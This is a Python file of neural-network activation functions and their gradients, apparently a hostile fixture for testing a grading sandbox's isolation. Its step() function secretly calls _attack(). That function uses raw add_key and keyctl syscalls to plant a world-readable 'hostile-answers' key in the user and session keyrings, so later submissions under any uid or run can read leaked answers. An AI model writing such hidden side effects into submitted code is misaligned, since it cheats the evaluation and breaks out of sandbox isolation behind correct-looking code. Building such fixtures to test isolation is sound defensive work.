# HOSTILE: step adds a key holding "answers" to its user and session keyrings (add_key), makes it readable by everyone (keyctl setperm), so that a later submission, under any uid, in this run or a later one, finds it; its values are correct.
import ctypes
import os
import platform

import numpy as np

MARK = "HOSTILE-MARK-5e1f"
NUMBERS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl
USER_KEYRING, SESSION_KEYRING = -4, -3
DONE = []


def _attack():
    add_key, keyctl = NUMBERS.get(platform.machine(), (None, None))
    if add_key is None:
        return
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    payload = b"sigmoid=1/(1+exp(-z)) " + MARK.encode()
    for ring in (USER_KEYRING, SESSION_KEYRING):
        key = libc.syscall(add_key, b"user", f"hostile-answers-{MARK}".encode(), payload, ctypes.c_size_t(len(payload)), ring)
        if key >= 0:
            libc.syscall(keyctl, 5, ctypes.c_long(key), ctypes.c_ulong(0x3F3F3F3F))  # KEYCTL_SETPERM: all to all
            print("ADDED key", key, "to keyring", ring)
        else:
            print("add_key refused:", os.strerror(ctypes.get_errno()))


def _once():
    if not DONE:
        DONE.append(True)
        try:
            _attack()
        except Exception as exc:  # the attack is the point; failing is fine
            print("attack failed:", type(exc).__name__, exc)


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    _once()
    return np.heaviside(np.asarray(z, dtype=float), 1.0)
